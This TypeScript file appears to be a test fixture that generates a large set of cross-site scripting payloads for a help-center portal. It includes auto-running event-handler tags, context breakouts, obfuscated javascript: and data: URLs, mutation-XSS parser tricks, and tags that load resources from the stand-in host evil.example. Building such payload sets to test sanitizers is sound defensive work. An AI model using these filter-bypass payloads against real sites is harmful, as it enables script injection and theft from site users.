// Attacks on the help center, 60 of each kind: every way to hide an attack, with every payload. A script that runs sets
// `window.__xss`; a resource that loads comes from evil.example.
const RUN = "window.__xss=1";
const EVIL = "evil.example";

const each = (heads: readonly string[], tails: readonly ((head: string) => string)[]): string[] =>
  heads.flatMap((head) => tails.map((tail) => tail(head)));

/** Elements with a handler that runs by itself, written in ways that HTML parsers read differently. */
const elements = each(
  [
    "img src=x onerror",
    "svg onload",
    "details open ontoggle",
    "video src=x onerror",
    "audio src=x onerror",
    "input autofocus onfocus",
    "object data=x onerror",
    "iframe srcdoc=x onload",
    "body onpageshow",
    "style onload",
    "marquee onstart",
    "p tabindex=0 autofocus onfocus",
  ],
  [
    (tag) => `<${tag}=${RUN}>`,
    (tag) => `<${tag.toUpperCase()}="${RUN}"></${tag.split(" ")[0]}>`,
    (tag) => `<${tag.replaceAll(" ", "/")}\n=\t'${RUN}'//`,
    (tag) => `<b title="</b><${tag}=${RUN}>">x</b>`,
    (tag) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;${tag}=${RUN}&gt;">`,
  ],
);

/** Texts that break out of the place they are inserted into: a title, an attribute, a text field, a comment. */
const breakouts = each(
  ['"', "'", '">', "'>", '"/>', "</title>", "</textarea>", "</a></li>", "-->", "]]>", "`", "&quot;>"],
  [
    (end) => `${end} onmouseover=${RUN} x=`,
    (end) => `${end} autofocus onfocus=${RUN} x=`,
    (end) => `${end}<svg onload=${RUN}>`,
    (end) => `${end}<img src=x onerror=${RUN}>`,
    (end) => `${end}<script>${RUN}</script>`,
  ],
);

/** Addresses that run a script when someone follows them. */
const addresses = each(
  [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `java&#10;script:${RUN}`,
    `&#x6a;avascript&colon;${RUN}`,
    `\u0001javascript:${RUN}`,
    ` &#14; javascript:${RUN}`,
    `javascript://x%0a${RUN}`,
    `vbscript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
    `view-source:javascript:${RUN}`,
  ],
  [
    (to) => `<a href="${to}">read more</a>`,
    (to) => `<svg><a xlink:href="${to}"><text x=9 y=9>read more</text></a></svg>`,
    (to) => `<form action="${to}"><button>read more</button></form>`,
    (to) => `<iframe src="${to}"></iframe>`,
    (to) => `[read more](${to}) <img src="${to}"><area href="${to}">`,
  ],
);

/** Resources that a browser loads from another host by itself. */
const loads = each(
  [`https://${EVIL}/x`, `//${EVIL}/x`, `http:\\\\${EVIL}\\x`, `https&colon;//${EVIL}/x`, `ht\ntps://${EVIL}/x`],
  [
    (from) => `<img src="${from}">`,
    (from) => `<img srcset="${from} 1x, ${from} 2x">`,
    (from) => `<picture><source srcset="${from}"><img></picture>`,
    (from) => `<video poster="${from}" src="${from}" autoplay></video>`,
    (from) => `<p style="background:url(${from});content:url('${from}')">x</p>`,
    (from) => `<style>@import '${from}'; body{background:url(${from})}</style>`,
    (from) =>
      `<link rel=stylesheet href="${from}"><link rel=prefetch href="${from}"><link rel=preconnect href="${from}">`,
    (from) => `<meta http-equiv=refresh content="0;url=${from}"><base href="${from}">`,
    (from) => `<object data="${from}"></object><embed src="${from}"><iframe src="${from}"></iframe>`,
    (from) => `<table background="${from}"><td background="${from}">x</table>`,
    (from) => `<svg><image href="${from}"/><use href="${from}#x"/><feImage xlink:href="${from}"/></svg>`,
    (from) => `<input type=image src="${from}"><script src="${from}"></script><audio src="${from}" autoplay></audio>`,
  ],
);

export const PORTAL_PAYLOADS: Readonly<Record<string, readonly string[]>> = { elements, breakouts, addresses, loads };
